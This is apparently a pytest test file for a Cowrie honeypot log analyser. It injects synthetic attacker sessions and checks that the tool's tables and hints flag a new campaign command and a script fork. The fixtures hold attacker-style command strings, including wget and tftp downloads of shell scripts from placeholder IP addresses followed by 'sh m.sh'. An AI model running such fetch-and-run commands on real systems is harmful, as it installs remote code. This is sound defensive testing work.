"""Known patterns injected into real logs must surface in every analysis.

Case A: on 2024-04-25, a new campaign runs `uname -a; cat /proc/version; <a new command>` on the
Radec73 sensor. Cowrie does not know the new command; 150 sessions leave right after it, 30 go
on to a download. predisconnect, forks, failed_commands, novelty, changes, campaigns and hints
must all point at it.

Case B: on 2024-04-12, 100 sessions of one script; half of them stop after its third step.
forks must find that step with a stop rate near one half.
"""

from __future__ import annotations

import csv
import json
import shutil
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

import cbtest

SENSOR = "ip-172-31-36-38"
NEW_CMD = "tsunami-honeycheck --probe 7"
NEW_NAME = "tsunami-honeycheck"
FORK_STEP = "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'"


def ev(eventid, t, sid, ip, **kw):
    d = {"eventid": eventid, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "session": sid, "src_ip": ip,
         "sensor": SENSOR}
    d.update(kw)
    return d


def scripted_session(sid, ip, t0, commands, failed=(), password="1qaz2wsx"):
    """A shell session: connect, version, login, pty, the commands (one second apart), then a close."""
    t = t0
    out = [ev("cowrie.session.connect", t, sid, ip, src_port=40000, dst_ip="172.31.36.38", dst_port=2222,
              protocol="ssh"),
           ev("cowrie.client.version", t + timedelta(seconds=0.2), sid, ip, version="SSH-2.0-Go"),
           ev("cowrie.login.success", t + timedelta(seconds=1), sid, ip, username="root", password=password),
           ev("cowrie.client.size", t + timedelta(seconds=1.1), sid, ip, width=80, height=24)]
    t = t + timedelta(seconds=2)
    for c in commands:
        out.append(ev("cowrie.command.input", t, sid, ip, input=c))
        if c in failed:
            out.append(ev("cowrie.command.failed", t + timedelta(milliseconds=5), sid, ip, input=c))
        t += timedelta(seconds=1)
    out.append(ev("cowrie.session.closed", t, sid, ip, duration=(t - t0).total_seconds()))
    return out


def write_events(path: Path, events):
    events.sort(key=lambda e: e["timestamp"])
    path.write_text("".join(json.dumps(e, separators=(",", ":")) + "\n" for e in events))


@pytest.fixture(scope="module")
def injected(cb_bin, samples, tmp_path_factory):
    root = tmp_path_factory.mktemp("inject")
    logs = root / "logs"
    shutil.copytree(samples / "wild" / "Radec73__cowrie2", logs)
    base_a = datetime(2024, 4, 25, 9, 0, tzinfo=timezone.utc)
    events = []
    for i in range(180):
        sid = f"a{i:011x}"
        ip = f"198.51.{100 + i // 200}.{i % 200 + 1}"
        cmds = ["uname -a", "cat /proc/version", NEW_CMD]
        if i >= 150:  # the others of the same script go on
            cmds = cmds + [f"wget http://198.51.100.{i % 50 + 1}/x{i}.sh"]
        events += scripted_session(sid, ip, base_a + timedelta(seconds=37 * i), cmds, failed={NEW_CMD})
    base_b = datetime(2024, 4, 12, 3, 0, tzinfo=timezone.utc)
    for i in range(100):
        sid = f"b{i:011x}"
        ip = f"203.0.113.{i + 1}"
        steps = ["cd /tmp", "cat /proc/mounts", FORK_STEP, "tftp -g -r m.sh 203.0.113.250", "sh m.sh"]
        if i % 2 == 0:
            steps = steps[:3]
        events += scripted_session(sid, ip, base_b + timedelta(seconds=53 * i), steps, password=f"pw{i % 7}")
    write_events(logs / "cowrie.json.injected", events)
    res = cbtest.analyze(cb_bin, logs, root / "out")
    assert res.rc == 0, res.explain()
    return res


def table(res, name):
    with open(res.out / "tables" / f"{name}.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_predisconnect_ranks_the_new_command(injected):
    rows = [r for r in table(injected, "predisconnect") if r["kind"] == "template" and r["command"] == NEW_CMD.replace("7", "<N>")]
    assert len(rows) == 1
    r = rows[0]
    assert int(r["sessions_with"]) == 180
    assert int(r["left_last"]) == 150
    assert float(r["lift"]) > 2.5 and float(r["lift_low"]) > 2.0
    assert float(r["failed_rate"]) == 1.0
    assert r["end_kinds"].startswith("exit:0;disconnect:150")


def test_forks_find_both_injected_forks(injected):
    forks = table(injected, "forks")
    a = [f for f in forks if f["command"] == NEW_CMD.replace("7", "<N>")]
    assert a and int(a[0]["reached"]) == 180 and int(a[0]["stopped"]) == 150 and int(a[0]["continued"]) == 30
    assert a[0]["next_commands"].startswith("wget <URL>:30")
    assert all(x.startswith(SENSOR + "/a") for x in a[0]["example_sessions"].split(";"))
    b = [f for f in forks if f["command"] == "echo -e '<HEX>'" and f["prefix"].startswith("cd /tmp")]
    assert len(b) == 1
    assert int(b[0]["reached"]) == 100 and int(b[0]["stopped"]) == 50 and int(b[0]["continued"]) == 50
    assert float(b[0]["stop_rate_low"]) < 0.5 < float(b[0]["stop_rate_high"])
    # The injected forks rank above the real ones from the sample (more sessions on both sides).
    top = [f["command"] for f in forks[:2]]
    assert NEW_CMD.replace("7", "<N>") in top and "echo -e '<HEX>'" in top


def test_failed_commands_lists_it_with_its_disconnect_rate(injected):
    rows = [r for r in table(injected, "failed_commands") if r["command"] == NEW_CMD]
    assert len(rows) == 1
    assert int(rows[0]["sessions"]) == 180 and int(rows[0]["src_ips"]) == 180
    assert abs(float(rows[0]["disconnect_after_rate"]) - 150 / 180) < 1e-3
    assert rows[0]["first_seen"].startswith("2024-04-25T09:00")


def test_novelty_dates_it(injected):
    rows = [r for r in table(injected, "novelty") if r["kind"] == "command_template" and r["value"] == NEW_CMD.replace("7", "<N>")]
    assert len(rows) == 1
    assert rows[0]["first_seen"].startswith("2024-04-25T09:00")
    assert int(rows[0]["sessions"]) == 180 and int(rows[0]["src_ips"]) == 180


def test_changes_flag_the_day(injected):
    flagged = [r for r in table(injected, "changes") if r["day"] == "2024-04-25" and r["flag"] in ("1", "true")]
    series = {r["series"] for r in flagged}
    assert any(NEW_CMD.replace("7", "<N>") in s for s in series) or "sessions" in series, series


def test_campaigns_group_the_injected_sessions(injected):
    camps = table(injected, "campaigns")
    mine = [c for c in camps if NEW_CMD in c["example_commands"] or NEW_CMD.replace("7", "<N>") in c["example_commands"]]
    assert mine, "no campaign shows the new command"
    assert sum(int(c["sessions"]) for c in mine) == 180
    assert min(c["first_seen"] for c in mine).startswith("2024-04-25")


def test_hints_point_at_it(injected):
    hints = json.loads((injected.out / "hints.json").read_text())["hints"]
    text = json.dumps(hints)
    # No system has a command of that name: nothing to implement (issue #10), but the step is
    # where sessions of one script split, and that is a high fork with the sessions as evidence.
    assert f"implement-{NEW_NAME}" not in {h["id"] for h in hints}
    fork = next(h for h in hints if h["id"].startswith("fork-") and NEW_CMD.replace("7", "<N>") in h["title"])
    assert fork["severity"] == "high", fork
    assert fork["evidence"]["stopped"] == 150 and fork["evidence"]["continued"] == 30
    assert all(x.startswith(SENSOR + "/a") for x in fork["evidence"]["example_sessions"])
    other = next(h for h in hints if h["id"] == "not-commands")
    assert other["severity"] == "info" and f"{NEW_NAME}:180" in other["evidence"]["sessions_by_name"], other
